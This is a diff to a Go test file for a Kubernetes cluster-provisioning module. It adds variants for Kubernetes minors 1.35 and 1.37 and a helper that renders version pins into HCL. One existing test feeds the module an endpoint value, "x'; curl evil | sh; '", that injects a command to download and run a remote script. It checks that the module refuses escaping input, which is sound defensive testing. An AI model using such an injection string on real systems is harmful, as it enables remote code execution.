@@ -15,6 +15,8 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	"github.com/ochestra-tech/kubeopera/plugins/internal/upstream"
 )
 
 const (
@@ -37,6 +39,15 @@ type variant struct {
 	nonce string
 	// kmsKey encrypts the published admin kubeconfig ("" for aws/ssm).
 	kmsKey string
+	// minor is the Kubernetes minor ("" for 1.36).
+	minor string
+}
+
+func (v variant) kubernetes() string {
+	if v.minor == "" {
+		return "1.36"
+	}
+	return v.minor
 }
 
 // variants are the scripts the tests run: three control planes and workers
@@ -52,6 +63,10 @@ var variants = map[string]variant{
 	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, patch: "1.36.2", public: "single-public.kubeopera.test"},
 	"single_worker": {role: "worker", waitTimeoutSecond: 300},
 	"nonce_worker":  {role: "worker", waitTimeoutSecond: 300, nonce: "n0nce"},
+	"single_cp0_135": {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, public: "single-public.kubeopera.test",
+		minor: "1.35"},
+	"single_cp0_137": {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, public: "single-public.kubeopera.test",
+		minor: "1.37"},
 }
 
 // pollInterval is the relay poll interval the scripts are rendered with:
@@ -124,6 +139,27 @@ func renderAll() error {
 	return json.Unmarshal(outputs["ssm_prefix"].Value, &r.prefix)
 }
 
+// probePins is the pins input of a probe variant of Kubernetes minor, as
+// the plugins pass it, as an HCL object.
+func probePins(minor string) string {
+	pins, err := Pins(minor)
+	if err != nil {
+		panic(err)
+	}
+	keys := make([]string, 0, len(pins))
+	for k := range pins {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	var b strings.Builder
+	b.WriteString("{\n")
+	for _, k := range keys {
+		fmt.Fprintf(&b, "    %s = %q\n", k, pins[k])
+	}
+	b.WriteString("  }")
+	return b.String()
+}
+
 func probeRoot() string {
 	var b strings.Builder
 	names := make([]string, 0, len(variants))
@@ -140,7 +176,7 @@ func probeRoot() string {
   region                = "eu-north-1"
   role                  = %q
   index                 = %d
-  kubernetes_version    = "1.36"
+  kubernetes_version    = %q
   kubernetes_patch      = %q
   endpoint_override     = %q
   public_endpoint       = %q
@@ -148,14 +184,15 @@ func probeRoot() string {
   untaint_control_plane = %t
   poll_interval_seconds = %s
   wait_timeout_seconds  = %d
+  pins                  = %s
 }
 
 output %q {
   value = module.%s.script
 }
 
-`, name, ModuleDir, testClusterID, v.nonce, v.role, v.index, v.patch, v.endpointOverride, v.public, v.kmsKey, v.untaint, pollInterval,
-			v.waitTimeoutSecond, name, name)
+`, name, ModuleDir, testClusterID, v.nonce, v.role, v.index, v.kubernetes(), v.patch, v.endpointOverride, v.public, v.kmsKey, v.untaint, pollInterval,
+			v.waitTimeoutSecond, probePins(v.kubernetes()), name, name)
 	}
 	b.WriteString("output \"parameters\" {\n  value = module.cp0.parameters\n}\n\n" +
 		"output \"ssm_prefix\" {\n  value = module.cp0.ssm_prefix\n}\n")
@@ -260,7 +297,7 @@ func TestHeaderCarriesTheInputs(t *testing.T) {
 		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.36'", "KO_POLL_INTERVAL='0.2'"},
 		"worker":     {"KO_ROLE='worker'", "KO_UNTAINT_CONTROL_PLANE='false'"},
 		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'", "KO_KUBERNETES_PATCH='1.36.2'"},
-		"cp0":        {"KO_KUBERNETES_PATCH=''", "KO_CONTAINERD_VERSION='2.1.4'", "KO_ARCH='amd64'"},
+		"cp0":        {"KO_KUBERNETES_PATCH=''", "KO_CONTAINERD_VERSION='" + upstream.Containerd.Version + "'", "KO_ARCH='amd64'"},
 		"nonce_worker": {"KO_PARAM_MEMBERS='" + PrefixWithNonce(testClusterID, "n0nce") + "/members'",
 			"KO_PARAM_WORKER_JOIN='" + PrefixWithNonce(testClusterID, "n0nce") + "/join/worker'"},
 	} {
@@ -302,8 +339,9 @@ func TestModuleRefusesValuesThatCouldEscapeTheHeader(t *testing.T) {
   role               = "control-plane"
   kubernetes_version = "1.36"
   endpoint_override  = "x'; curl evil | sh; '"
+  pins               = %s
 }
-`, ModuleDir)
+`, ModuleDir, probePins("1.36"))
 	if err := os.WriteFile(filepath.Join(dir, "main.tf"), []byte(root), 0o600); err != nil {
 		t.Fatal(err)
 	}
